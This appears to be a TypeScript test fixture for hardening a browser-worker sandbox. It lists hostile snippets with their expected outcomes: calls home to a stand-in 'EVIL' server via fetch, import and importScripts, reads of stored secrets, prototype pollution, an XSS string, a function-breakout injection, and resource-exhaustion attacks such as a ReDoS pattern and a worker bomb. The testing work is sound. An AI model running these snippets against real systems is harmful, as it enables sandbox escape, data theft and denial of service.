/** How a run of hostile code must end. */
export type Ending = 'done' | 'failed' | 'stopped';

/** One attack from inside the worker: its code (EVIL is the hostile server), its end, and its output. */
export interface Attack {
  readonly id: string;
  readonly code: string;
  readonly ends: Ending | readonly Ending[];
  readonly shows?: RegExp;
  readonly hides?: RegExp;
}

/** Attacks that call home or reach for the site. */
export const reaching: readonly Attack[] = [
  { id: 'W1 fetch', code: `await fetch('EVIL/w1')`, ends: 'failed', shows: /fetch/ },
  {
    id: 'W2 XMLHttpRequest',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'EVIL/w2', false); x.send()`,
    ends: 'failed',
    shows: /XMLHttpRequest/,
  },
  {
    id: 'W3 WebSocket',
    code: `new WebSocket('EVIL/w3'.replace('http', 'ws'))`,
    ends: 'failed',
    shows: /WebSocket/,
  },
  {
    id: 'W4 EventSource',
    code: `new EventSource('EVIL/w4')`,
    ends: 'failed',
    shows: /EventSource/,
  },
  {
    id: 'W5 WebTransport',
    code: `new WebTransport('https://127.0.0.1:1/w5')`,
    ends: 'failed',
    shows: /WebTransport/,
  },
  { id: 'W6 importScripts', code: `importScripts('EVIL/w6.js')`, ends: 'failed', shows: /import/ },
  { id: 'W7 import', code: `await import('EVIL/w7.js')`, ends: 'failed', shows: /TypeError/ },
  {
    id: 'W8 import of data',
    code: `console.log((await import('data:text/javascript,export default 7')).default)`,
    ends: 'failed',
    shows: /TypeError/,
  },
  {
    id: 'W9 Worker',
    code: `new Worker(URL.createObjectURL(new Blob(['for(;;)'])))`,
    ends: 'failed',
    shows: /ReferenceError/,
  },
  {
    id: 'W10 SharedWorker',
    code: `new SharedWorker('x')`,
    ends: 'failed',
    shows: /ReferenceError/,
  },
  {
    id: 'W11 localStorage',
    code: `console.log(localStorage.getItem('secret'))`,
    ends: 'failed',
    shows: /ReferenceError/,
    hides: /keep me/,
  },
  ...[
    `indexedDB.open('x')`,
    `caches.open('x')`,
    `navigator.storage.getDirectory()`,
    `cookieStore.getAll()`,
    `navigator.locks.request('x', () => 1)`,
  ].map((code) => ({ id: `W12 ${code}`, code: `await ${code}`, ends: 'failed' as const })),
  {
    id: 'W13 BroadcastChannel',
    code: `new BroadcastChannel('progress').postMessage('evil')`,
    ends: 'failed',
    shows: /ReferenceError/,
  },
  {
    id: 'W14 what a document has',
    code: `console.log([typeof document, typeof window, typeof parent, typeof RTCPeerConnection, typeof navigator.sendBeacon, typeof __lab])`,
    ends: 'done',
    shows: /^\["undefined","undefined","undefined","undefined","undefined","undefined"\]/,
  },
  {
    id: 'W31 postMessage flood',
    code: `for (let i = 0; i < 2e6; i++) self.postMessage({ t: 'log', s: 'x' })`,
    ends: 'failed',
  },
  {
    id: 'W32 a forged end',
    code: `self.postMessage('{"say":"end","end":"done"}')`,
    ends: 'failed',
  },
  { id: 'W33 close', code: `self.close()`, ends: 'failed' },
  { id: 'W57 eval', code: `console.log(eval('1+1'))`, ends: 'failed', shows: /EvalError|eval/ },
  {
    id: 'W57 new Function',
    code: `console.log(new Function('return 3')())`,
    ends: 'failed',
    shows: /EvalError|eval/,
  },
  {
    id: 'W57 Function by way of a constructor',
    code: `console.log((async () => {}).constructor('return 3')())`,
    ends: 'failed',
  },
];

/** Attacks that never end or take all there is. */
export const exhausting: readonly Attack[] = [
  { id: 'W15 endless loop', code: `for (;;);`, ends: 'stopped' },
  {
    id: 'W16 endless microtasks',
    code: `(function f() { Promise.resolve().then(f) })(); await new Promise(() => {})`,
    ends: 'stopped',
  },
  { id: 'W17 never settles', code: `await new Promise(() => {})`, ends: 'stopped' },
  { id: 'W17 thenable that never settles', code: `await { then() {} }`, ends: 'stopped' },
  { id: 'W18 regular expression', code: `/(a+)+$/.test('a'.repeat(40) + 'b')`, ends: 'stopped' },
  { id: 'W19 recursion', code: `(function f() { f() })()`, ends: 'failed', shows: /RangeError/ },
  { id: 'W20 endless toJSON', code: `console.log({ toJSON() { for (;;); } })`, ends: 'stopped' },
  {
    id: 'W21 arrays',
    code: `const a = []; for (;;) a.push({ x: new Array(1000).fill(Math.random()) })`,
    ends: 'stopped',
  },
  { id: 'W22 string', code: `let s = 'x'; for (;;) s += s`, ends: 'failed', shows: /RangeError/ },
  {
    id: 'W23 buffers',
    code: `const a = []; for (;;) { const u = new Uint8Array(1 << 26); u.fill(1); a.push(u) }`,
    ends: ['stopped', 'failed'],
  },
  {
    id: 'W24 blobs',
    code: `const a = []; for (;;) a.push(new Blob([new Uint8Array(1 << 26)]))`,
    ends: ['stopped', 'failed'],
  },
  {
    id: 'W25 large buffers',
    code: `const a = []; for (let i = 0; i < 200; i++) a.push(new ArrayBuffer(2 ** 32))`,
    ends: ['failed', 'stopped'],
  },
  {
    id: 'W26 WebAssembly memory',
    code: `for (;;) new WebAssembly.Memory({ initial: 65536 })`,
    ends: 'failed',
    shows: /ReferenceError/,
  },
  {
    id: 'W27 worker bomb',
    code: `(function bomb() { new Worker('data:,'); bomb() })()`,
    ends: 'failed',
    shows: /ReferenceError/,
  },
  {
    id: 'W28 a million lines',
    code: `for (let i = 0; i < 1e6; i++) console.log(i)`,
    ends: 'done',
    shows: /199\n[\s\S]*Output cut/,
    hides: /\b200\n/,
  },
  {
    id: 'W29 one long line',
    code: `console.log('x'.repeat(5e7))`,
    ends: 'done',
    shows: /^x{9999}…/,
  },
  {
    id: 'W30 a long array',
    code: `console.log(Array.from({ length: 2e6 }, (_, i) => i))`,
    ends: 'done',
    shows: /^\[0,1,2,[\s\S]*1999900 more\]/,
  },
  {
    id: 'W34 reported errors',
    code: `for (let i = 0; i < 2e5; i++) reportError(new Error('x'))`,
    ends: 'failed',
    shows: /Error: x/,
  },
  {
    id: 'W35 errors in timers',
    code: `for (let i = 0; i < 1e5; i++) setTimeout(() => { throw 1 }, 0); await new Promise(() => {})`,
    ends: 'failed',
  },
  {
    // A forgotten rejection ends a run here as it does in Node.
    id: 'W36 rejections',
    code: `for (let i = 0; i < 1e5; i++) Promise.reject(i); await new Promise(() => {})`,
    ends: ['failed', 'stopped'],
  },
  {
    id: 'W37 timers',
    code: `for (let i = 0; i < 1e6; i++) setTimeout(() => {}, 0)`,
    ends: ['done', 'stopped'],
  },
  {
    id: 'W38 late lines',
    code: `setInterval(() => console.log('late'), 1); console.log('on time')`,
    ends: 'done',
    shows: /on time/,
  },
  {
    id: 'W52 deep nesting',
    code: `let o = {}; for (let i = 0; i < 1e5; i++) o = { o }; console.log(o)`,
    ends: 'done',
    shows: /\{…\}/,
  },
  {
    id: 'W56 Atomics.wait',
    code: `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)`,
    ends: 'failed',
    shows: /ReferenceError/,
  },
  {
    id: 'tables without end',
    code: `import { table } from 'eight-levels/lab';
for (let i = 0; i < 1000; i++) table({ caption: 'c', columns: ['a'], rows: Array.from({ length: 200 }, () => ['x'.repeat(400)]) })`,
    ends: 'done',
    shows: /Output cut/,
  },
];

/** Attacks on the code that runs beside the lab's, and on what is shown. */
export const deceiving: readonly Attack[] = [
  {
    id: 'W39 replaced built-ins',
    code: `Object.prototype.t = 'done'; Object.prototype.say = 'POLLUTED'; JSON.stringify = () => '"PWN"';
String.prototype.slice = () => 'PWN'; Array.prototype.push = () => { throw 1 }; console.log({ a: 1 }); console.log(5)`,
    ends: 'done',
    shows: /^\{"a":1\}\n5\n/,
  },
  {
    id: 'W40 setter on Array.prototype',
    code: `Object.defineProperty(Array.prototype, '0', { set() {}, get() { return 'PWN' } }); console.log('q'); console.log('r')`,
    ends: 'done',
    shows: /^q\nr\n/,
  },
  {
    id: 'W41 replaced then',
    code: `Promise.prototype.then = () => 'PWN'; console.log(5)`,
    ends: 'done',
    shows: /^5\n/,
  },
  {
    id: 'W42 thenable that settles twice',
    code: `console.log(await { then(a) { a(1); a(2) } })`,
    ends: 'done',
    shows: /^1\n$/,
  },
  {
    id: 'W43 console.log replaced',
    code: `console.log = () => {}`,
    ends: 'failed',
    shows: /TypeError/,
  },
  {
    id: 'W43 console redefined',
    code: `Object.defineProperty(globalThis, 'console', { value: {} })`,
    ends: 'failed',
    shows: /TypeError/,
  },
  {
    id: 'W44 unprintable values',
    code: `const loop = {}; loop.self = loop;
for (const value of [new Proxy({}, { get() { throw 1 }, ownKeys() { throw 2 } }), { get a() { throw 1 } }, loop, Object.create(null), 10n, Symbol('x')]) console.log(value)`,
    ends: 'done',
    shows: /^\[unprintable\]\n\[unprintable\]\n\{"self":\[circular\]\}\n\{\}\n10n\nSymbol\(x\)\n$/,
  },
  { id: 'W45 throw null', code: `throw null`, ends: 'failed', shows: /^null$/ },
  {
    id: 'W45 throw what cannot be read',
    code: `throw { get name() { throw 1 }, toString() { throw 2 } }`,
    ends: 'failed',
    shows: /unprintable/,
  },
  {
    id: 'W46 breaking out of the function',
    code: `}); self.PWN = 1; (async () => {`,
    ends: 'failed',
    shows: /SyntaxError/,
  },
  {
    id: 'W47 syntax error',
    code: `const x = ;`,
    ends: 'failed',
    shows: /main\.ts, line 1 SyntaxError/,
  },
  {
    id: 'W47 syntax error that only the engine sees',
    code: `let a;\nlet a;`,
    ends: 'failed',
    shows: /main\.ts, line 2 SyntaxError/,
  },
  {
    id: 'W48 unknown import',
    code: `import x from 'y'; console.log(x)`,
    ends: 'failed',
    shows: /There is no 'y' here/,
  },
  {
    id: 'W49 markup',
    code: `console.log('<img src=x onerror=alert(1)>'); throw new Error('<img src=EVIL/w49>')`,
    ends: 'failed',
    shows: /<img src=x onerror=alert\(1\)>[\s\S]*<img src=/,
  },
  {
    id: 'W50 controls',
    code: `console.log('a\\u202Eb\\u0000c\\ud800 \\u001b[31mred')`,
    ends: 'done',
    shows: /^abc\ufffd red\n$/,
  },
  {
    id: 'W51 an array of holes',
    code: `const a = []; a.length = 2 ** 32 - 1; console.log(a)`,
    ends: 'done',
    shows: /more\]/,
  },
  {
    id: 'W53 functions of the stack',
    code: `Error.prepareStackTrace = (e, calls) => calls; console.log(new Error().stack.map((call) => call.getFunction?.()))`,
    ends: 'done',
    shows: /^\[(undefined,?)+\]/,
  },
  {
    id: 'W54 caller',
    code: `console.log(String((function () { return arguments.callee.caller })()))`,
    ends: 'failed',
    shows: /TypeError/,
  },
  { id: 'W55 debugger', code: `debugger; console.log('on')`, ends: 'done', shows: /^on\n$/ },
  {
    id: 'W59 a megabyte of code',
    code: `/* ${'x'.repeat(1_000_000)} */`,
    ends: 'failed',
    shows: /up to 100000 characters/,
  },
  {
    id: 'W59 a hundred thousand lines',
    code: `//\n`.repeat(100_000),
    ends: 'failed',
    shows: /up to 100000 characters/,
  },
];
